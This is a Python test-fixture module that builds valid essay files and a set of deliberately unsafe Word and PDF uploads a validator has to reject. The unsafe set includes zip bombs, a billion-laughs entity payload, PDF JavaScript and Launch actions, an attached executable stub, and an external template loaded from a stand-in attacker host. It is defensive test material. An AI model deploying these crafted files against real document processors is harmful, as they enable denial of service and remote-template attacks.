"""Essays as files: good ones, and those that no marker should ever open."""

from __future__ import annotations

import functools
import io
import struct
import zipfile

from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, StreamObject, TextStringObject

from tests.doubles.word_files import package, word

REL = "http://schemas.openxmlformats.org"


@functools.cache
def docx(text: str = "Bài thu hoạch của tôi.", **more: str | bytes) -> bytes:
    """A Word file; ``more`` parts by name with ``__`` for a slash and ``_`` before the ending for a dot."""
    return with_parts(word(text), {name.replace("__", "/").replace("_dot_", "."): part for name, part in more.items()})


def with_parts(content: bytes, more: dict[str, str | bytes]) -> bytes:
    """The same package with parts added or replaced."""
    with zipfile.ZipFile(io.BytesIO(content)) as old:
        parts: dict[str, str | bytes] = {name: old.read(name) for name in old.namelist()}
    return package(parts | more)


@functools.cache
def pdf(pages: int = 2, text: str = "Bai thu hoach") -> bytes:
    """A PDF with that text on each page."""
    return _written(_writer(pages, text))


def _writer(pages: int, text: str) -> PdfWriter:
    writer = PdfWriter()
    for _ in range(pages):
        page = writer.add_blank_page(595, 842)
        stream = StreamObject()
        stream.set_data(f"BT /F1 12 Tf 50 780 Td ({text}) Tj ET".encode())
        font = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Font"),
                NameObject("/Subtype"): NameObject("/Type1"),
                NameObject("/BaseFont"): NameObject("/Helvetica"),
            }
        )
        fonts = DictionaryObject({NameObject("/F1"): font})
        page[NameObject("/Resources")] = DictionaryObject({NameObject("/Font"): fonts})
        page[NameObject("/Contents")] = writer._add_object(stream)
    return writer


def _written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def encrypted_pdf() -> bytes:
    writer = _writer(1, "bi mat")
    writer.encrypt("mat khau", algorithm="RC4-128")
    return _written(writer)


def scripted_pdf() -> bytes:
    writer = _writer(1, "chao")
    action = {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert('chao');")}
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(action)
    return _written(writer)


def launching_pdf() -> bytes:
    writer = _writer(1, "bam vao day")
    action = DictionaryObject({NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("calc.exe")})
    note = DictionaryObject({NameObject("/Subtype"): NameObject("/Link"), NameObject("/A"): action})
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(note)])
    return _written(writer)


def attaching_pdf() -> bytes:
    writer = _writer(1, "kem tep")
    writer.add_attachment("virus.exe", b"MZ")
    return _written(writer)


def bomb(mebibytes: int = 200) -> bytes:
    """A Word file whose document unpacks to that much."""
    return with_parts(word("x"), {"word/media/image1.png": bytes(mebibytes << 20)})


def entities() -> bytes:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    document = f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY l0 "lol">{laughs}]><w:document>&l9;</w:document>'
    return with_parts(word("x"), {"word/document.xml": document})


def outside_template() -> bytes:
    relation = (
        f'<Relationships xmlns="{REL}/package/2006/relationships"><Relationship Id="r1" TargetMode="External" '
        f'Type="{REL}/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/a.dotm"/>'
        "</Relationships>"
    )
    return with_parts(word("x"), {"word/_rels/settings.xml.rels": relation})


def encrypted_docx() -> bytes:
    """Word keeps a document with a password in an OLE container."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1500) + "EncryptedPackage".encode("utf-16-le") + bytes(500)


def locked_parts() -> bytes:
    """A zip whose entries say that they are encrypted."""
    content = bytearray(word("x"))
    for signature, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = content.find(signature)
        while start >= 0:
            content[start + at] |= 1
            start = content.find(signature, start + 4)
    return bytes(content)


def overlapping_bomb(entries: int = 3000) -> bytes:
    """Many names for one part, as Fifield's zip bombs have (https://www.bamsoftware.com/hacks/zipbomb/)."""
    base = word("x")
    end = base.rfind(b"PK\x05\x06")
    _length, start = struct.unpack("<II", base[end + 12 : end + 20])
    first = base[start : start + 46 + struct.unpack("<H", base[start + 28 : start + 30])[0]]
    directory = first * entries
    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, entries, entries, len(directory), start, 0)
    return base[:start] + directory + tail


UNSAFE: dict[str, bytes] = {
    "empty": b"",
    "unknown": b"Bai thu hoach\n",
    "old_word": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000),
    "encrypted": encrypted_docx(),
    "encrypted ": locked_parts(),
    "encrypted  ": encrypted_pdf(),
    "broken": docx("dài " * 500)[:-40],
    "broken ": pdf()[:300] + b"\n%%EOF",
    "polyglot": pdf() + docx(),
    "polyglot ": docx() + b"<script>",
    "bomb": bomb(64),
    "too_many": overlapping_bomb(),
    "nested": docx(word__embeddings__a_dot_xlsx=docx()),
    "macros": docx(word__vbaProject_dot_bin=b"x"),
    "macros ": docx(
        **{"[Content_Types]_dot_xml": "<Types a='application/vnd.ms-word.document.macroEnabled.main+xml'/>"}
    ),
    "active": scripted_pdf(),
    "active ": launching_pdf(),
    "active  ": attaching_pdf(),
    "entities": entities(),
    "external": outside_template(),
}
"""By the reason they must be refused for (blanks only tell keys apart)."""
